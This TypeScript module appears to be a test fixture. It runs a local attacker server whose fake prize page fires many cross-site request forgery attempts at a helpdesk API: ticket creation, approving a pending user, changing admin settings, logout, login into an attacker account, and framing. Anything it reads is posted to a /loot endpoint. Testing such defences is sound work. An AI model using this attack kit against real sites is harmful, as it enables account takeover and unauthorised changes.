import { createServer, type IncomingMessage } from 'node:http';

/** What the attacker's page is told: where the victim's desk is and what to aim at. */
export type AttackPlan = {
  /** Origins that answer /api for the victim: the shell (its proxy) and the API process itself. */
  targets: string[];
  /** Pages of the app to try to frame. */
  framedPages: string[];
  /** An account waiting for approval: the attack tries to approve it with the victim's cookie. */
  pendingUserId: string;
  /** Put into every ticket or team the attack tries to create, to look for it afterwards. */
  marker: string;
  /** The attacker's own account: a login CSRF would sign the victim into it. */
  attackerAccount: { username: string; password: string };
};

/** One attack as the attacker's own script saw it: what it could read is the point. */
export type AttackOutcome = {
  attack: string;
  kind: 'form' | 'fetch' | 'img' | 'script' | 'frame';
  /** How it ended from the page's side: 'loaded', 'error', 'timeout', an HTTP status, an exception. */
  how: string;
  /** Whatever the attacker's script managed to read of the answer ('' when nothing). */
  read: string;
};

/**
 * The attacker's page: forms that submit themselves (urlencoded, multipart, text/plain bodies that
 * look like JSON, one in a sandboxed frame so its Origin is 'null', one as a top-level popup),
 * credentialed fetches (no-cors writes, CORS writes that need a preflight, reads), images and
 * scripts pointing at the API, and frames of the app. Everything it reads goes to /loot; it sets
 * `window.__attackDone` when all attempts have settled.
 */
function attackPage(plan: AttackPlan): string {
  const config = JSON.stringify(plan).replaceAll('<', '\\u003c');
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Win a prize</title></head>
<body>
<h1>Congratulations, you won!</h1>
<script id="plan" type="application/json">${config}</script>
<script>
(async () => {
  const plan = JSON.parse(document.getElementById('plan').textContent);
  const outcomes = [];
  const note = (attack, kind, how, read) => outcomes.push({ attack, kind, how: String(how), read: String(read ?? '') });
  let counter = 0;

  function readFrame(frame) {
    try { return frame.contentDocument ? frame.contentDocument.body.innerText : ''; } catch (error) { return ''; }
  }

  function formPost(attack, action, enctype, fields, options = {}) {
    return new Promise((resolve) => {
      const name = 'sink' + counter++;
      const form = document.createElement('form');
      form.method = 'post';
      form.action = action;
      form.enctype = enctype;
      for (const [key, value] of fields) {
        const input = document.createElement('input');
        input.type = 'hidden';
        input.name = key;
        input.value = value;
        form.append(input);
      }
      let isDone = false;
      const finish = (how, read) => { if (isDone) return; isDone = true; note(attack, 'form', how, read); resolve(); };
      if (options.isTopLevel) {
        form.target = '_blank';
        document.body.append(form);
        form.submit();
        setTimeout(() => finish('submitted', ''), 2500);
        return;
      }
      const frame = document.createElement('iframe');
      frame.name = name;
      frame.style.cssText = 'width:1px;height:1px;border:0';
      document.body.append(frame);
      form.target = name;
      document.body.append(form);
      frame.addEventListener('load', () => finish('loaded', readFrame(frame)));
      setTimeout(() => finish('timeout', readFrame(frame)), 4000);
      form.submit();
    });
  }

  function sandboxedFormPost(attack, action) {
    return new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-forms allow-scripts');
      frame.style.cssText = 'width:1px;height:1px;border:0';
      const escaped = action.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
      frame.srcdoc = '<form method="post" action="' + escaped + '"><input name="title" value="' + plan.marker +
        ' sandboxed"><input name="description" value="x"></form><scr' + 'ipt>document.forms[0].submit()</scr' + 'ipt>';
      let loads = 0;
      let isDone = false;
      const finish = (how) => { if (isDone) return; isDone = true; note(attack, 'form', how, ''); resolve(); };
      frame.addEventListener('load', () => { loads += 1; if (loads === 2) finish('loaded'); });
      setTimeout(() => finish('timeout'), 4000);
      document.body.append(frame);
    });
  }

  async function tryFetch(attack, url, init) {
    try {
      const response = await fetch(url, init);
      let body = '';
      try { body = await response.text(); } catch (error) { body = ''; }
      note(attack, 'fetch', response.type === 'opaque' ? 'opaque' : response.status, body);
    } catch (error) {
      note(attack, 'fetch', error && error.name ? error.name : 'error', '');
    }
  }

  function load(attack, tag, url) {
    return new Promise((resolve) => {
      const element = document.createElement(tag);
      let isDone = false;
      const finish = (how) => { if (isDone) return; isDone = true; note(attack, tag, how, ''); resolve(); };
      element.addEventListener('load', () => finish('loaded'));
      element.addEventListener('error', () => finish('error'));
      setTimeout(() => finish('timeout'), 4000);
      element.src = url;
      document.body.append(element);
    });
  }

  function frame(attack, url) {
    return new Promise((resolve) => {
      const element = document.createElement('iframe');
      element.style.cssText = 'width:300px;height:200px';
      element.dataset.attack = attack;
      let isDone = false;
      const finish = (how) => { if (isDone) return; isDone = true; note(attack, 'frame', how, readFrame(element)); resolve(); };
      element.addEventListener('load', () => setTimeout(() => finish('loaded'), 300));
      setTimeout(() => finish('timeout'), 5000);
      element.src = url;
      document.body.append(element);
    });
  }

  const ticket = (label) => JSON.stringify({ title: plan.marker + ' ' + label, description: 'csrf' });
  const jsonish = (label) => [['{"title":"' + plan.marker + ' ' + label + '","description":"csrf","pad":"', '"}']];
  const attempts = [];
  for (const target of plan.targets) {
    const api = target + '/api';
    const status = api + '/admin/users/' + plan.pendingUserId + '/status';
    const at = ' @' + target;
    attempts.push(
      () => formPost('form urlencoded POST /api/tickets' + at, api + '/tickets', 'application/x-www-form-urlencoded',
        [['title', plan.marker + ' urlencoded'], ['description', 'csrf']]),
      () => formPost('form multipart POST /api/tickets' + at, api + '/tickets', 'multipart/form-data',
        [['title', plan.marker + ' multipart'], ['description', 'csrf']]),
      () => formPost('form text/plain JSON POST /api/tickets' + at, api + '/tickets', 'text/plain', jsonish('text-plain')),
      () => formPost('form POST /api/auth/logout' + at, api + '/auth/logout', 'application/x-www-form-urlencoded', []),
      () => formPost('form POST user status' + at, status, 'application/x-www-form-urlencoded',
        [['status', 'active'], ['_method', 'PATCH']]),
      () => formPost('form text/plain JSON POST /api/auth/login (login CSRF)' + at, api + '/auth/login', 'text/plain',
        [['{"username":"' + plan.attackerAccount.username + '","password":"' + plan.attackerAccount.password + '","pad":"', '"}']]),
      () => tryFetch('fetch no-cors POST /api/auth/login (login CSRF)' + at, api + '/auth/login',
        { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(plan.attackerAccount) }),
      () => tryFetch('fetch no-cors POST /api/auth/register' + at, api + '/auth/register',
        { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' },
          body: JSON.stringify({ username: plan.marker, email: plan.marker + '@example.com', password: 'Str0ng!pass', firstName: 'C', lastName: 'S' }) }),
      () => formPost('form text/plain JSON POST /api/teams' + at, api + '/teams', 'text/plain', [['{"name":"' + plan.marker + ' team","pad":"', '"}']]),
      () => sandboxedFormPost('sandboxed (Origin: null) form POST /api/tickets' + at, api + '/tickets'),
      () => tryFetch('fetch no-cors POST /api/tickets' + at, api + '/tickets',
        { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: ticket('no-cors') }),
      () => tryFetch('fetch cors POST /api/tickets (JSON)' + at, api + '/tickets',
        { method: 'POST', mode: 'cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: ticket('cors') }),
      () => tryFetch('fetch no-cors PATCH user status' + at, status,
        { method: 'PATCH', mode: 'no-cors', credentials: 'include', body: '{"status":"active"}' }),
      () => tryFetch('fetch cors PATCH user status' + at, status,
        { method: 'PATCH', mode: 'cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"status":"active"}' }),
      () => tryFetch('fetch cors PUT /api/admin/settings' + at, api + '/admin/settings',
        { method: 'PUT', mode: 'cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"companyName":"' + plan.marker + '"}' }),
      () => tryFetch('fetch no-cors POST /api/auth/logout' + at, api + '/auth/logout',
        { method: 'POST', mode: 'no-cors', credentials: 'include' }),
      () => tryFetch('fetch GET /api/auth/me with credentials' + at, api + '/auth/me', { credentials: 'include' }),
      () => tryFetch('fetch GET /api/tickets with credentials' + at, api + '/tickets', { credentials: 'include' }),
      () => tryFetch('fetch no-cors GET /api/auth/me' + at, api + '/auth/me', { mode: 'no-cors', credentials: 'include' }),
      () => load('img /api/auth/me' + at, 'img', api + '/auth/me'),
      () => load('img /api/auth/logout' + at, 'img', api + '/auth/logout'),
      () => load('script /api/auth/me' + at, 'script', api + '/auth/me'),
      () => load('script /api/tickets' + at, 'script', api + '/tickets'),
      () => frame('frame /api/auth/me' + at, api + '/auth/me'),
    );
  }
  for (const page of plan.framedPages) attempts.push(() => frame('frame ' + page, page));
  attempts.push(() => formPost('top-level form POST /api/tickets @' + plan.targets[0], plan.targets[0] + '/api/tickets',
    'application/x-www-form-urlencoded', [['title', plan.marker + ' top-level'], ['description', 'csrf']], { isTopLevel: true }));

  await Promise.all(attempts.map((run) => run()));
  await fetch('/loot', { method: 'POST', body: JSON.stringify(outcomes) });
  window.__attackDone = true;
})();
</script>
</body></html>`;
}

function readBody(request: IncomingMessage): Promise<string> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    request.on('error', reject);
  });
}

/**
 * The attacker's web server on its own port (another origin than the desk): serves the attack page
 * and keeps whatever the page posts to /loot.
 */
export async function startAttackerSite(port: number, plan: AttackPlan) {
  const loot: AttackOutcome[][] = [];
  const server = createServer((request, response) => {
    void (async () => {
      if (request.method === 'POST' && request.url === '/loot') {
        loot.push(JSON.parse(await readBody(request)) as AttackOutcome[]);
        response.writeHead(204).end();
        return;
      }
      if (request.method === 'GET' && request.url?.startsWith('/prize')) {
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(plan));
        return;
      }
      response.writeHead(404).end();
    })();
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', resolve);
  });
  return {
    loot,
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
